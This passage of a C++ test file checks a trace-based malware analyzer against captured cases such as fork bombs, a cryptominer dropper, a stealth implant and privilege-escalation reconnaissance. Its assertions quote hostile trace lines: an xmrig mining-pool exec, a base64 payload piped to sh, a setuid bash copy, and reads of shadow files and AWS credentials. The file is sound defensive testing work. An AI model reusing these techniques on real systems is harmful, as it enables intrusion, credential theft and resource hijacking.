       "libraries from the system (libruby-3.1.so, libz.so, libgmp.so, libcrypt.so, +7); no missing module, "
       "package or library reported"},
      {"java_own_jar", {{"target_account_database_read", 2}},  // the JVM's getpwuid
       "loaded 2 Java archives from the project (app, textutil); 13 shared libraries from the system (libz.so, "
       "libjli.so, libc.so, libjvm.so, +9); no missing module, package or library reported"},
      // child_process.fork('worker.js'): a worker of its own code, low; was child_process_spawned, WARN.
      {"node_fork_worker", {{"own_script_worker_started", 1}, {"process_forked", 1}},
       "loaded 2 JavaScript modules of its own from the project (main.js, worker.js); 6 shared libraries from the "
       "system (libdl.so, libstdc++.so, libm.so, libgcc_s.so, +2); no missing module, package or library reported"},
      // eval { require JSON::XS } fails in every @INC dir (ENOENT probes: no load), JSON::PP instead.
      {"perl_optional_module", {},
       "loaded 22 Perl modules from the system (strict, warnings, FindBin, Carp, +18); 1 Perl module from the "
       "project (Report::Table); 6 shared libraries from the system (libm.so, libc.so, libcrypt.so, Cwd.so, +2); "
       "no missing module, package or library reported"},
  };
  for (const Case_& c : cases) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + c.name), "--format", "json"});
    ASSERT_EQ(r.code, 0) << c.name << r.err;
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root, "verdict"), "PASS") << c.name;
    EXPECT_EQ(FiredCounts(*j), c.fired) << c.name;
    EXPECT_EQ(TableField(*j, "dependencies", "observation"), c.deps) << c.name;
  }
}

// The harness sends the program's stdout/stderr to the artifacts' program.log (`> /artifacts/program.log
// 2>&1`): stdio's fstat and writes on fds 1 and 2 there are the capture, read as the program_log
// source, not files the program wrote (testdata/cases/c_abort_midrun, c_container_escape:
// write(1</artifacts/program.log>, ...)). The files it chose to write stay listed.
TEST(EndToEnd, TheCapturedOutputIsNoFileTheProgramWrote) {
  for (const char* name : {"c_abort_midrun", "c_container_escape", "c_fork_workers"}) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + name), "--format", "json"});
    auto j = ParseJson(r.out);
    const std::vector<std::string> files = Lines(*j, "file_activity");
    ASSERT_FALSE(files.empty()) << name;
    for (const std::string& line : files) EXPECT_EQ(line.find("program.log"), std::string::npos) << name << ": " << line;
  }
  CliRun r = Cli({"analyze", Case("cases/c_abort_midrun"), "--format", "json"});
  auto j = ParseJson(r.out);
  const std::vector<std::string> files = Lines(*j, "file_activity");
  EXPECT_NE(std::find(files.begin(), files.end(), "  /home/auditor/app/out/totals.txt  (write×4, create, 7 inotify events)"),
            files.end());
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "fatal_error_logged"), "c_abort_midrun/program.log", 3, "ledger:"));
}

// Batch programs stopped while stuck in waits nothing would end (testdata/cases/c_hang_*;
// EXPECTED.md): stdin from a fifo nobody writes, epoll_wait without a timeout, a connect nobody
// answers (killed by SIGKILL from outside: no signal line), a wait4 for a worker that hangs.
TEST(EndToEnd, BatchProgramsStoppedInEndlessWaitsHung) {
  const std::vector<std::pair<const char*, std::string>> cases = {
      {"c_hang_stdin_read", "1.998s in calls nothing would end (read on /mnt/jobs), making no other call, when it was "
                            "stopped after 2.024s (SIGTERM)"},
      {"c_hang_poll", "1.432s in calls nothing would end (epoll_wait (no timeout)), making no other call, when it was "
                      "stopped after 1.543s (SIGTERM)"},
      {"c_hang_connect", "1.541s in calls nothing would end (connect to 127.0.0.1:9200), making no other call, when "
                         "it was stopped after 1.543s (SIGKILL)"},
      {"c_hang_wait_child", "2.008s in calls nothing would end (wait4 for pid 54), making no other call, when it "
                            "was stopped after 2.015s (SIGTERM)"},
  };
  const std::map<std::string, std::map<std::string, uint64_t>> fired = {
      {"c_hang_stdin_read", {{"hung_until_stopped", 1}}},
      {"c_hang_poll", {{"hung_until_stopped", 1}}},
      {"c_hang_connect", {{"hung_until_stopped", 1}, {"loopback_connect", 1}}},
      {"c_hang_wait_child", {{"hung_until_stopped", 1}, {"process_forked", 1}}},
  };
  for (const auto& [name, text] : cases) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + name), "--format", "json"});
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root, "verdict"), "WARN") << name;
    EXPECT_EQ(FiredCounts(*j), fired.at(name)) << name;
    EXPECT_EQ(Str(FindingOf(*j, "hung_until_stopped"), "observation"),
              "the program hung: all its threads had been blocked for " + text)
        << name;
  }
  CliRun r = Cli({"analyze", Case("cases/c_hang_stdin_read"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "hung_until_stopped"), "c_hang_stdin_read/strace_log", 173,
                          "read(0</mnt/jobs>,  <unfinished ...>"));
}

// A C CLI that crashed after reading its input, its buffered stdout lost (program.log empty):
// mid-run, not a start-up crash (testdata/cases/c_segv_buffered/EXPECTED.md).
TEST(EndToEnd, CrashAfterReadingInputIsMidRunEvenWithoutOutput) {
  CliRun r = Cli({"analyze", Case("cases/c_segv_buffered"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "WARN");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"crashed", 1}}));
  EXPECT_EQ(Str(j->root["overview"], "life"),
            "the target was killed by SIGSEGV after 0.01 s mid-run, after it had read 4 input files "
            "(/home/auditor/app/data/index.txt, /home/auditor/app/data/alpha.txt, /home/auditor/app/data/beta.txt, "
            "/home/auditor/app/data/gamma.txt): no start-up failure, though it left no output (a program whose "
            "stdout is a file buffers it, and a crash loses what it had printed)");
}

// A server that crashed after it listened (testdata/cases/c_segv_midrun/EXPECTED.md): its run
// life says how it ended, not only that it reached steady state.
TEST(EndToEnd, ServerCrashAfterSteadyStateIsInItsRunLife) {
  auto j = ParseJson(Cli({"analyze", Case("cases/c_segv_midrun"), "--format", "json"}).out);
  EXPECT_EQ(Str(j->root, "verdict"), "WARN");
  EXPECT_EQ(Str(j->root["overview"], "life"),
            "reached steady state: program.log reports it is listening; then the target was killed by SIGSEGV "
            "after 3.03 s, not stopped by the harness");
}

// A time bomb: sixteen 2 s sleeps, then a shell and a ~/.bashrc append
// (testdata/cases/c_time_bomb/EXPECTED.md).
TEST(EndToEnd, ShortSleepsAddingUpBeforeAShellAreATimeBomb) {
  CliRun r = Cli({"analyze", Case("cases/c_time_bomb"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "FAIL");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"persistence_write", 3},
                                                               {"shell_spawned", 1},
                                                               {"delayed_action", 2},
                                                               {"child_process_spawned", 2},
                                                               {"account_database_read", 3},
                                                               {"write_outside_app", 1},
                                                               {"process_forked", 2}}));
  simdjson::dom::element bomb = FindingOf(*j, "delayed_action");
  // The sleeper is the program that slept (updater, pid 51), not the shell its child exec'd.
  EXPECT_EQ(Str(bomb, "observation"),
            "time bomb: updater (pid 51) slept 32.005s in all, then pid 52 called execve /bin/sh; 2 such step(s)");
  EXPECT_TRUE(AnyEvidence(bomb, "c_time_bomb/strace_log", 450, "\"/home/auditor/.bashrc\", O_WRONLY|O_CREAT|O_APPEND"));
}

// Resource hijacking without a miner's name (testdata/cases/c_busy_chat_server/EXPECTED.md):
// chatd listens and waits in poll() while two threads it started spin with no system call.
// The loaded capture host gave it 26.6 % of a core in ps (cpu_busy_server needs 80): the
// trace shows it, each thread silent for 4.7 s from its last call to SIGTERM. Before: PASS.
TEST(EndToEnd, ServerThreadsSpinningWithoutCallsAreABusyLoop) {
  CliRun r = Cli({"analyze", Case("cases/c_busy_chat_server"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "WARN");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"thread_busy_without_calls", 2}, {"listening_socket", 1}}));
  simdjson::dom::element busy = FindingOf(*j, "thread_busy_without_calls");
  EXPECT_EQ(Str(busy, "observation"), 
            "resource hijack or busy loop: thread 55 of chatd (pid 53), a server, ran 4.747s without a system call "
            "up to its event at line 67 of the trace; 2 time(s)");
  EXPECT_TRUE(AnyEvidence(busy, "c_busy_chat_server/strace_log", 67, "+++ killed by SIGTERM +++"));
  // A batch job computing as hard (py_hash_batch_clean, 25.5 % in ps on the same host) serves
  // nothing: no finding.
  CliRun b = Cli({"analyze", Case("cases/py_hash_batch_clean"), "--format", "json"});
  auto k = ParseJson(b.out);
  EXPECT_EQ(Str(k->root, "verdict"), "PASS");
  EXPECT_EQ(FiredCounts(*k).count("thread_busy_without_calls"), 0u);
  EXPECT_EQ(FiredCounts(*k).count("cpu_busy_server"), 0u);
}

// A fork bomb bounded by `ulimit -u 60` (testdata/cases/c_fork_bomb, EXPECTED.md): every copy
// forks until EAGAIN, none more than 8 times, so process_storm (100 by one process) never
// fired; before: WARN (fork_failure only), the process row low.
TEST(EndToEnd, ForkBombIsAHighProcessFinding) {
  CliRun r = Cli({"analyze", Case("cases/c_fork_bomb"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j),
            (std::map<std::string, uint64_t>{{"fork_bomb", 1}, {"fork_failure", 59}, {"process_forked", 58}}));
  simdjson::dom::element bomb = FindingOf(*j, "fork_bomb");
  EXPECT_EQ(Str(bomb, "observation"),
            "fork bomb: 58 forked copies of spawnd kept forking, no exec between (until the kernel refused with EAGAIN, "
            "the process limit, or the run was stopped: copies of copies forking again), first pid 52 (parent pid 50): "
            "a denial of service");
  EXPECT_EQ(TableRisk(*j, "process"), "high");
}

// A slow fork bomb stopped by `timeout 1` before any limit (testdata/cases/c_fork_bomb_stopped):
// the copies double every 0.2 s and no fork is refused, so no EAGAIN; the copies of copies that
// fork again are the bomb. Before: PASS (process_forked only).
TEST(EndToEnd, ForkBombStoppedBeforeAnyLimitIsStillAForkBomb) {
  CliRun r = Cli({"analyze", Case("cases/c_fork_bomb_stopped"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"fork_bomb", 1}, {"process_forked", 31}}));
  simdjson::dom::element bomb = FindingOf(*j, "fork_bomb");
  EXPECT_EQ(Str(bomb, "observation"),
            "fork bomb: 11 forked copies of breeder kept forking, no exec between (until the kernel refused with "
            "EAGAIN, the process limit, or the run was stopped: copies of copies forking again), first pid 53 (parent "
            "pid 51): a denial of service");
  EXPECT_EQ(TableRisk(*j, "process"), "high");
}

// The miner's DNS look-up is seen by two rules over the same two sends (mining_pool_contact,
// dns_lookup): the row said "2 query send(s)" twice. A statement is said once per row; a count
// after another finding's statement, over other events (dns_query's "2 attempt(s)"), stays.
TEST(EndToEnd, RowStatesEachStatementOnce) {
  auto j = ParseJson(Cli({"analyze", Case("cases/c_evasive_miner"), "--format", "json"}).out);
  EXPECT_EQ(TableField(*j, "network", "observation"),
            "mining pool looked up: pool.supportxmr.com by xmrig (pid 184); 2 query send(s); DNS query attempt to "
            "127.0.0.11:53 by xmrig (pid 184); 2 attempt(s); looked up pool.supportxmr.com at 127.0.0.11:53; "
            "connects to local services: first 127.0.0.1:3333 by xmrig (pid 184) connected; 1 attempt(s)");
}

// strace -p attached to an echo service holding a connection it had accepted before
// (testdata/cases/py_echo_attach_preaccepted, EXPECTED.md): that connection's I/O (-yy
// `4<TCP:[127.0.0.1:8161->127.0.0.1:51482]>`, no accept in the trace) was listed as traffic with
// 127.0.0.1:51482 like a peer the program reached; its local port is the one it listens on, so
// it is a client's connection accepted before the trace, and said so.
TEST(EndToEnd, ConnectionsOpenBeforeAttachAreSaidToPredateTheTrace) {
  CliRun r = Cli({"analyze", Case("cases/py_echo_attach_preaccepted"), "--format", "json"});
  ASSERT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{}));
  EXPECT_EQ(Lines(*j, "network_activity"),
            (std::vector<std::string>{"accept 127.0.0.1:* (loopback): 1 ok", "recv 127.0.0.1:* (loopback): 2 ok",
                                      "recv 127.0.0.1:* (loopback, accepted before the trace): 2 ok",
                                      "send 127.0.0.1:* (loopback): 1 ok",
                                      "send 127.0.0.1:* (loopback, accepted before the trace): 1 ok",
                                      "snapshot 127.0.0.1:* (loopback): 5 ok"}));
  EXPECT_EQ(TableField(*j, "network", "comments"),
            "checked by no_outbound_network_attempt; connections already open when strace attached: 1 accepted "
            "before the trace (from 127.0.0.1:51482): a client's connection, its replies not the program reaching out");
}

// Programs run through a wrapper that forks them and waits (testdata/cases/timeout_py_deadlock,
// timeout_server_stopped, time_c_fork_workers, script_qc_py_cli, su_sh_c_py_cli (through su's
// `sh -c`, which forks the command), bwrap_pidns_py_cli (a fork numbered inside bwrap's pid
// namespace); EXPECTED.md): the wrapper's child is the target,
// the wrapper's fork and exit status are no findings, its SIGTERM is the capture's stop. A CLI
// whose threads all sat in futex waits until timeout killed it hung; a server stopped at the
// limit is judged like one the harness stopped.
TEST(EndToEnd, CommandsRunThroughAWrapperAreTheTarget) {
  struct Case_ {
    const char* name;
    const char* verdict;
    std::map<std::string, uint64_t> fired;
    const char* tree_target;  // the process tree's line of the target
  };
  const std::vector<Case_> cases = {
      {"timeout_py_deadlock", "WARN", {{"hung_until_stopped", 1}},
       "pid 43 /usr/bin/python3 export.py  [2 threads]  (killed by SIGTERM)  ← target"},
      {"timeout_server_stopped", "PASS", {{"listening_socket", 1}},
       "pid 46 python3 -S server.py  [7 threads]  (killed by SIGTERM)  ← target"},
      {"time_c_fork_workers", "PASS", {{"process_forked", 4}}, "pid 51 ./wordcount  (exit 0)  ← target"},
      {"script_qc_py_cli", "PASS", {},
       "pid 43 python3 report.py input  exec chain: /bin/bash → /usr/bin/python3  (exit 0)  ← target"},
      {"su_sh_c_py_cli", "PASS", {}, "    └─ pid 46 python3 report.py input  (exit 0)  ← target"},
      {"bwrap_pidns_py_cli", "PASS", {}, "    └─ pid 46 python3 report.py input  (exit 0)  ← target"},
      // strace -s 32 cut the -c string ("cd /home/auditor/app && python3 "...): what is left after
      // its last && starts the command dash forked. Before: sh the target, WARN
      // (child_process_spawned, process_forked).
      {"sh_c_cd_py_cli_s32", "PASS", {}, "  └─ pid 45 python3 report.py input  (exit 0)  ← target"},
  };
  for (const Case_& c : cases) {
    CliRun r = Cli({"analyze", Case(std::string("cases/") + c.name), "--format", "json"});
    auto j = ParseJson(r.out);
    EXPECT_EQ(Str(j->root, "verdict"), c.verdict) << c.name;
    EXPECT_EQ(FiredCounts(*j), c.fired) << c.name;
    CliRun md = Cli({"analyze", Case(std::string("cases/") + c.name)});
    EXPECT_NE(md.out.find(c.tree_target), std::string::npos) << c.name << md.out;
    EXPECT_NE(md.out.find("  ← wrapper"), std::string::npos) << c.name;
  }
  // The wrappers' own privilege operations are named in the privilege row, as the harness's.
  const std::vector<std::pair<std::string, std::string>> wrapper_privileges = {
      {"su_sh_c_py_cli",
       "checked by no_privilege_operation; the launcher's or wrapper's own privilege operations, the harness's and "
       "not the target's: su (pid 44) setgroups @ strace_log:593; su (pid 45) setgid, setuid @ strace_log:828"},
      {"bwrap_pidns_py_cli",
       "checked by no_privilege_operation; the launcher's or wrapper's own privilege operations, the harness's and "
       "not the target's: bwrap (pid 44) capset @ strace_log:102; bwrap (pid 45) mount, pivot_root, umount2, "
       "unshare, capset @ strace_log:197"},
      {"timeout_py_deadlock", "checked by no_privilege_operation"},
  };
  for (const auto& [name, comments] : wrapper_privileges) {
    auto pj = ParseJson(Cli({"analyze", Case("cases/" + name), "--format", "json"}).out);
    EXPECT_EQ(TableRisk(*pj, "privilege"), "safe") << name;
    EXPECT_EQ(TableField(*pj, "privilege", "comments"), comments) << name;
  }
  // ... and in its observation, which speaks for the target only: before, "no privilege
  // operation (no setuid/setgid, ...)" beside su's setuid in the comments.
  const std::string none =
      "no privilege operation (no setuid/setgid, capset, ptrace or write into another process's memory, no file "
      "descriptor taken from another process, signal to other processes, namespace, mount or kernel call, no kernel "
      "exploit primitive or reconnaissance, no host kernel hook or setting written, no sudo/su/pkexec, no setuid bit "
      "set, no file capabilities or security labels written, no account database written, no setuid-program search, "
      "no container runtime or credential agent socket)";
  const std::vector<std::pair<std::string, std::string>> wrapper_observations = {
      {"su_sh_c_py_cli", "the target made " + none +
                             "; the launcher did, as the harness: su (pid 44) changed its groups; su (pid 45) changed "
                             "identity"},
      {"bwrap_pidns_py_cli", "the target made " + none +
                                 "; the launcher did, as the harness: bwrap (pid 44) changed its capabilities; bwrap "
                                 "(pid 45) mounted file systems, entered new namespaces, changed its capabilities"},
      {"timeout_py_deadlock", none},
  };
  for (const auto& [name, observation] : wrapper_observations) {
    auto pj = ParseJson(Cli({"analyze", Case("cases/" + name), "--format", "json"}).out);
    EXPECT_EQ(TableField(*pj, "privilege", "observation"), observation) << name;
  }
  // ... and su's PAM reading the account databases is named in the file row, as the harness's.
  auto sj = ParseJson(Cli({"analyze", Case("cases/su_sh_c_py_cli"), "--format", "json"}).out);
  EXPECT_EQ(TableRisk(*sj, "file"), "safe");
  EXPECT_EQ(TableField(*sj, "file", "comments"),
            "checked by no_sensitive_file_read; the launcher's or wrapper's own reads of sensitive files, the "
            "harness's and not the target's: su (pid 44) /etc/passwd, /etc/shadow @ strace_log:170");
  // time's command exited 0 by itself: a run to completion, not a missing steady state.
  CliRun t = Cli({"analyze", Case("cases/time_c_fork_workers"), "--format", "json"});
  auto tj = ParseJson(t.out);
  EXPECT_EQ(Str(tj->root["overview"], "life"),
            "the target ran to completion and exited with 0 after 0.01 s (it never listened or served: a command "
            "that ends by itself); the target (pid 51) ran under time (pid 50); time exited with 0");
  CliRun r = Cli({"analyze", Case("cases/timeout_py_deadlock"), "--format", "json"});
  auto j = ParseJson(r.out);
  simdjson::dom::element hung = FindingOf(*j, "hung_until_stopped");
  EXPECT_EQ(Str(hung, "observation"),
            "the program hung: all its threads had been blocked for 0.891s in calls nothing would end (futex), "
            "making no other call, when it was stopped after 1.011s (SIGTERM)");
  EXPECT_TRUE(AnyEvidence(hung, "timeout_py_deadlock/strace_log", 891,
                          "futex(0x7f74a0000b70, FUTEX_WAIT_BITSET_PRIVATE|FUTEX_CLOCK_REALTIME"));
  EXPECT_TRUE(AnyEvidence(hung, "timeout_py_deadlock/strace_log", 901, "--- SIGTERM {si_signo=SIGTERM, si_code=SI_USER, si_pid=42"));
}

// npm with an option and its value before the command (testdata/cases/npm_prefix_install_tarball,
// EXPECTED.md): `--prefix DIR install` installs, so the package's postinstall is judged as in
// npm_install_local_tarball, not taken for the launcher of `npm run`.
TEST(EndToEnd, NpmOptionValuesBeforeTheCommandAreNoCommand) {
  CliRun r = Cli({"analyze", Case("cases/npm_prefix_install_tarball"), "--format", "json"});
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "WARN");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"child_process_spawned", 2},
                                                              {"install_script_ran", 1},
                                                              {"process_forked", 2},
                                                              {"dns_query", 2},
                                                              {"dns_lookup", 4}}));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "install_script_ran"), "npm_prefix_install_tarball/strace_log", 1688,
                          "execve(\"/usr/bin/sh\", [\"sh\", \"-c\", \"node scripts/build-table.js\"]"));
}

// The privilege-escalation reconnaissance of testdata/cases/sh_privesc_recon, each step with its
// raw line: the tools run, the setuid copy of bash, the refused /etc/passwd append, the setuid
// search and the look for the Docker socket.
TEST(EndToEnd, PrivescReconnaissanceStepsAreEachAFinding) {
  CliRun r = Cli({"analyze", Case("cases/sh_privesc_recon"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  std::map<std::string, uint64_t> fired;
  for (simdjson::dom::element f : Fired(*j, "privilege", true)) fired[Str(f, "rule")] = Num(f, "count");
  EXPECT_EQ(fired, (std::map<std::string, uint64_t>{{"privilege_escalation_tool", 3},
                                                    {"setuid_bit_set", 1},
                                                    {"account_database_write", 1},
                                                    {"setuid_program_search", 1},
                                                    {"container_runtime_socket_probe", 2}}));
  const std::string log = "sh_privesc_recon/strace_log";
  for (simdjson::dom::element f : Fired(*j, "privilege")) {
    const std::string rule = Str(f, "rule");
    if (rule == "privilege_escalation_tool") {
      EXPECT_EQ(Str(f, "observation"), "the program ran a privilege tool: sudo -n -l (pid 49, exit code 1), exec result 0; "
                                       "3 exec(s) or attempt(s) of such tools");
      EXPECT_TRUE(AnyEvidence(f, log, 4455, "execve(\"/usr/bin/su\", [\"su\", \"-c\", \"id\", \"root\"]"));
      EXPECT_TRUE(AnyEvidence(f, log, 5036, "execve(\"/usr/bin/newgrp\""));
    } else if (rule == "setuid_bit_set") {
      EXPECT_TRUE(AnyEvidence(f, log, 4166, "fchmodat(AT_FDCWD</home/auditor/app>, \"/tmp/.hc-bash\", 04755) = 0"));
    } else if (rule == "account_database_write") {
      EXPECT_EQ(Str(f, "observation"), "account database written or attempted: openat /etc/passwd by healthcheck.sh "
                                       "(pid 46), result -1 EACCES; 1 call(s)");
      EXPECT_TRUE(AnyEvidence(f, log, 3755, "O_WRONLY|O_CREAT|O_APPEND, 0666) = -1 EACCES"));
    } else if (rule == "setuid_program_search") {
      EXPECT_TRUE(AnyEvidence(f, log, 1481, "\"-perm\", \"-4000\""));
    } else if (rule == "container_runtime_socket_probe") {
      EXPECT_TRUE(AnyEvidence(f, log, 5448, "newfstatat(AT_FDCWD</home/auditor/app>, \"/var/run/docker.sock\""));
      EXPECT_TRUE(AnyEvidence(f, log, 5618, "statx(AT_FDCWD</home/auditor/app>, \"/var/run/docker.sock\""));
    }
  }
  for (simdjson::dom::element f : Fired(*j, "file")) {
    if (Str(f, "rule") != "credential_file_read") continue;
    EXPECT_EQ(Num(f, "count"), 2u);
    EXPECT_TRUE(AnyEvidence(f, log, 2942, "\"/etc/sudoers\", O_RDONLY) = -1 EACCES"));
    EXPECT_TRUE(AnyEvidence(f, log, 3359, "\"/etc/shadow\", O_RDONLY) = -1 EACCES"));
  }
}

// A cryptojacking dropper: sandbox checks, a thread renamed through /proc, a library dropped in
// /tmp and one loaded from a memfd, a base64 payload, a competitor killed, a miner run from /tmp
// that looks up a mining pool; its thread's 600 s sleep, cut by a child's SIGCHLD and resumed
// by restart_syscall, is where the harness's SIGTERM ended the run
// (testdata/cases/c_evasive_miner/EXPECTED.md).
TEST(EndToEnd, EvasiveMinerStepsAreEachAFinding) {
  CliRun r = Cli({"analyze", Case("cases/c_evasive_miner"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"fileless_library", 1}, {"cryptominer_started", 1}, {"mining_pool_contact", 2},
                                 {"shell_spawned", 2}, {"exec_from_temp", 1}, {"library_from_temp", 1},
                                 {"encoded_payload_run", 1}, {"signal_to_foreign_process", 1},
                                 {"child_process_spawned", 6}, {"decoding_tool_run", 1}, {"process_probe", 1},
                                 {"sandbox_detection", 3}, {"long_sleep", 1}, {"run_ended_asleep", 1},
                                 {"process_forked", 7}, {"memfd_created", 1}, {"temp_write", 3}, {"dns_query", 2},
                                 {"kernel_thread_masquerade", 2},
                                 {"dns_lookup", 2}, {"loopback_connect", 1}}));
  const std::string log = "c_evasive_miner/strace_log";
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "fileless_library"), log, 102,
                          "PROT_READ|PROT_EXEC, MAP_PRIVATE|MAP_FIXED|MAP_DENYWRITE, 4</memfd:gl>(deleted)"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "library_from_temp"), log, 85, "3</tmp/.font-unix/libfc.so>, 0x1000)"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "cryptominer_started"), log, 903,
                          "execve(\"/tmp/.font-unix/xmrig\", [\"xmrig\", \"-o\", \"stratum+tcp://pool.supportxmr.com:443\""));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "mining_pool_contact"), log, 974, "\\4pool\\nsupportxmr\\3com"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "encoded_payload_run"), log, 237,
                          "\"echo dW5hbWUgLW0gJiYgbnByb2MK | base64 -d | sh\""));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "signal_to_foreign_process"), log, 878, "kill(67, SIGKILL) = 0"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "kernel_thread_masquerade"), log, 70,
                          "write(3</proc/74/task/175/comm>, \"kworker/0:2H\", 12) = 12"));
  EXPECT_EQ(Str(FindingOf(*j, "kernel_thread_masquerade"), "observation"),
            "process disguised as a kernel thread: write kworker/0:2H ./sysupdate (pid 74); 2 time(s)");
  // ps -eLo's thread row shows the new name too (a thread row of its own: LWP 175 != PID 74).
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "kernel_thread_masquerade"), "ps.txt", 6,
                          "     74     175      68 auditor  Sl   kworker/0:2H    ./sysupdate"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "sandbox_detection"), log, 38, "access(\"/.dockerenv\", F_OK) = 0"));
  for (const char* rule : {"long_sleep", "run_ended_asleep"}) {
    simdjson::dom::element f = FindingOf(*j, rule);
    EXPECT_TRUE(AnyEvidence(f, log, 64, "clock_nanosleep(CLOCK_REALTIME, 0, {tv_sec=600, tv_nsec=0},  <unfinished ...>"))
        << rule;
    EXPECT_TRUE(AnyEvidence(f, log, 851, "= ? ERESTART_RESTARTBLOCK")) << rule;
  }
  EXPECT_EQ(Str(FindingOf(*j, "run_ended_asleep"), "observation"),
            "the run ended while sysupdate (pid 74) was asleep: clock_nanosleep had asked for 600s and slept 0.397s "
            "before the end, result ? ERESTART_RESTARTBLOCK; what it does after waking was not observed");
}

// An implant that hides its files and itself: a folder named ". .", a dot-file among the X
// server's sockets, Firefox's menu entry shadowed, a child's open credentials taken with
// pidfd_getfd, "sshd: root@notty" written over its argv (only ps shows it), a stratum login to
// a loopback pool (testdata/cases/c_stealth_implant/EXPECTED.md).
TEST(EndToEnd, StealthImplantHidingIsEachAFinding) {
  CliRun r = Cli({"analyze", Case("cases/c_stealth_implant"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"secret_read_then_connect", 1}, {"credential_file_read", 1},
                                 {"process_fd_taken", 1}, {"daemon_masquerade", 1},
                                 {"deceptive_file_name", 4}, {"desktop_entry_shadowing", 1},
                                 {"write_outside_app", 2}, {"process_forked", 1}, {"user_app_data_write", 4},
                                 {"temp_write", 2}, {"loopback_connect", 1}, {"mining_protocol_sent", 2}}));
  const std::string log = "c_stealth_implant/strace_log";
  // The stratum login to the pool on 127.0.0.1:3333: mining whatever the address.
  EXPECT_EQ(Str(FindingOf(*j, "mining_protocol_sent"), "observation"),
            "crypto-mining pool protocol (stratum) sent by gvfsd-helper (pid 58) with sendto to 127.0.0.1:3333; 2 call(s)");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "mining_protocol_sent"), log, 73, "mining.subscribe"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "mining_protocol_sent"), log, 74, "mining.authorize"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "process_fd_taken"), log, 59,
                          "pidfd_getfd(5<pid:59>, 5</home/auditor/.aws/credentials>, 0) = 6"));
  EXPECT_EQ(Str(FindingOf(*j, "process_fd_taken"), "observation"),
            "file descriptor taken, or tried, from another process: pidfd_getfd pid:59 by gvfsd-helper (pid 58), "
            "result 6; 1 call(s)");
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "daemon_masquerade"), "c_stealth_implant/ps.txt", 5,
                          "58      52 auditor  S    gvfsd-helper    sshd: root@notty"));
  simdjson::dom::element hidden = FindingOf(*j, "deceptive_file_name");
  EXPECT_TRUE(AnyEvidence(hidden, log, 32, "mkdir(\"/home/auditor/.local/share/. .\", 0700) = 0"));
  EXPECT_TRUE(AnyEvidence(hidden, log, 41, "\"/tmp/.X11-unix/.x\", O_WRONLY|O_CREAT|O_TRUNC, 0600) = 3"));
  EXPECT_TRUE(AnyEvidence(hidden, "c_stealth_implant/inotify.log", 11, "CREATE,ISDIR /home/auditor/.local/share/. ."));
  EXPECT_TRUE(AnyEvidence(hidden, "c_stealth_implant/inotify.log", 31, "CREATE /tmp/.X11-unix/.x"));
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "desktop_entry_shadowing"), log, 37,
                          "\"/home/auditor/.local/share/applications/firefox.desktop\", O_WRONLY|O_CREAT|O_TRUNC, 0644)"));
  // Not yet a finding: the stratum login (mining.subscribe, mining.authorize) sent to the
  // loopback pool at lines 73-74 is only loopback_connect; the sent buffers are not inspected.
  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "loopback_connect"), log, 72, "sin_port=htons(3333)"));
}

// Resource abuse under limits the program set itself (fork until EAGAIN, mmap until ENOMEM), an
// io_uring, device opens, a stale ssh-agent socket and the absent Docker socket, no-op id and
// capability calls, an argc-0 exec (testdata/cases/c_resource_abuse/EXPECTED.md). setresuid and
// setresgid to the ids getuid()/getgid() had just returned change nothing (no identity_change),
// nor does a capset that empties every set (no capability_change).
TEST(EndToEnd, ResourceAbuseAttemptsAreFindingsThatSayHowTheyEnded) {
  CliRun r = Cli({"analyze", Case("cases/c_resource_abuse"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
                                 {"setuid_empty_argv", 1}, {"container_runtime_socket", 1}, {"process_storm", 1},
